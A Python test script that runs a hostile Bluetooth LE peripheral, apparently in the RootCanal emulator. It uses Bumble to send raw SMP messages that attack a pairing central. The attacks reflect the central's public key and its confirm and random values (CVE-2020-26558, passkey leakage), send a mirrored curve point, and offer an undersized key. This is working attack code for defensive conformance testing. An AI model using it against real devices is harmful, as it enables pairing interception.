#!/usr/bin/env python3
"""
hostile_smp_peer.py - a Bumble peripheral that speaks raw SMP on CID 6 (Bumble's own Security
Manager is taken off the channel) and attacks the central that pairs with it, on an external
controller (RootCanal).

    hostile_smp_peer.py --transport tcp-client:127.0.0.1:PORT --attack ATTACK [--io-capability IO]

Attacks:
  reflect           answers Pairing Request for LE Secure Connections (with --io-capability, so
                    that the central picks Just Works, Numeric Comparison or Passkey Entry), then
                    sends the central's own public key back, and any Pairing Confirm or Pairing
                    Random the central's own (CVE-2020-26558: in Passkey Entry, reflected
                    commitments reveal the passkey bit by bit)
  reflect-mirrored  the same with the key (X, p - Y): another point on the curve, with the same X
  bad-response      answers Pairing Request with a Pairing Response whose maximum key size is 5
                    (below the 7 the spec allows): the central must answer Pairing Failed

Lines on stdout, each with the number of the connection (1, 2, ...) it belongs to:
    READY {"address": ...}
    CONNECTED {"connection": n}
    RECEIVED {"connection": n, "code": c}           every SMP PDU from the central
    PAIRING_FAILED {"connection": n, "reason": r}   a Pairing Failed from the central
    DISCONNECTED {"connection": n, "reason": r}
"""
import argparse
import asyncio
import json
import signal

from bumble import hci
from bumble.core import AdvertisingData
from bumble.device import Device, DeviceConfiguration
from bumble.transport import open_transport

SMP_CID = 0x06
# The P-256 field prime.
P256_P = 0xFFFFFFFF00000001000000000000000000000000FFFFFFFFFFFFFFFFFFFFFFFF

IO = {'display-only': 0x00, 'display-yes-no': 0x01, 'keyboard-only': 0x02, 'no-input-no-output': 0x03,
      'keyboard-display': 0x04}

PAIRING_REQUEST, PAIRING_RESPONSE, PAIRING_CONFIRM, PAIRING_RANDOM, PAIRING_FAILED = 0x01, 0x02, 0x03, 0x04, 0x05
PAIRING_PUBLIC_KEY = 0x0C


def emit(kind, payload):
    print(f'{kind} {json.dumps(payload)}', flush=True)


async def main(args):
    async with await open_transport(args.transport) as (source, sink):
        config = DeviceConfiguration(name=args.name, address=hci.Address(args.address))
        device = Device.from_config_with_hci(config, source, sink)
        await device.power_on()
        # Raw SMP: Bumble's Security Manager no longer sees CID 6.
        device.l2cap_channel_manager.deregister_fixed_channel(SMP_CID)
        numbers = {}

        def send(handle, pdu):
            device.send_l2cap_pdu(handle, SMP_CID, bytes(pdu))

        def on_smp(handle, pdu):
            number = numbers.get(handle)
            if not pdu:
                return
            code = pdu[0]
            emit('RECEIVED', {'connection': number, 'code': code})
            if code == PAIRING_FAILED and len(pdu) == 2:
                emit('PAIRING_FAILED', {'connection': number, 'reason': pdu[1]})
            elif code == PAIRING_REQUEST:
                # AuthReq: bonding, MITM, Secure Connections; no keys distributed either way.
                key_size = 5 if args.attack == 'bad-response' else 16
                send(handle, [PAIRING_RESPONSE, IO[args.io_capability], 0x00, 0x0D, key_size, 0x00, 0x00])
            elif code == PAIRING_PUBLIC_KEY and len(pdu) == 65 and args.attack.startswith('reflect'):
                x, y = pdu[1:33], pdu[33:65]
                if args.attack == 'reflect-mirrored':
                    y = (P256_P - int.from_bytes(y, 'little')).to_bytes(32, 'little')
                send(handle, bytes([PAIRING_PUBLIC_KEY]) + x + y)
            elif code in (PAIRING_CONFIRM, PAIRING_RANDOM) and args.attack.startswith('reflect'):
                send(handle, pdu)

        device.l2cap_channel_manager.register_fixed_channel(SMP_CID, on_smp)

        def on_connection(connection):
            number = len(numbers) + 1
            numbers[connection.handle] = number
            emit('CONNECTED', {'connection': number})
            connection.on('disconnection',
                          lambda reason: emit('DISCONNECTED', {'connection': number, 'reason': int(reason)}))

        device.on('connection', on_connection)
        device.advertising_data = bytes(AdvertisingData([
            (AdvertisingData.FLAGS, bytes([0x06])),
            (AdvertisingData.COMPLETE_LOCAL_NAME, args.name.encode()),
        ]))
        # Advertising every 20 ms: the central connects in a hundred rounds without waiting.
        await device.start_advertising(own_address_type=hci.OwnAddressType.RANDOM, auto_restart=True,
                                       advertising_interval_min=20, advertising_interval_max=20)
        emit('READY', {'address': str(device.random_address)})
        await asyncio.sleep(args.timeout)


if __name__ == '__main__':
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument('--transport', required=True)
    parser.add_argument('--attack', choices=['reflect', 'reflect-mirrored', 'bad-response'], required=True)
    parser.add_argument('--io-capability', choices=sorted(IO), default='no-input-no-output')
    parser.add_argument('--name', default='Bumble-Hostile')
    parser.add_argument('--address', default='F1:F2:F3:F4:F5:D7', help='random static address')
    parser.add_argument('--timeout', type=float, default=120)
    args = parser.parse_args()
    # Test runners start children with SIGTERM blocked; take it back.
    signal.pthread_sigmask(signal.SIG_UNBLOCK, [signal.SIGTERM, signal.SIGINT])
    try:
        asyncio.run(main(args))
    except KeyboardInterrupt:
        pass
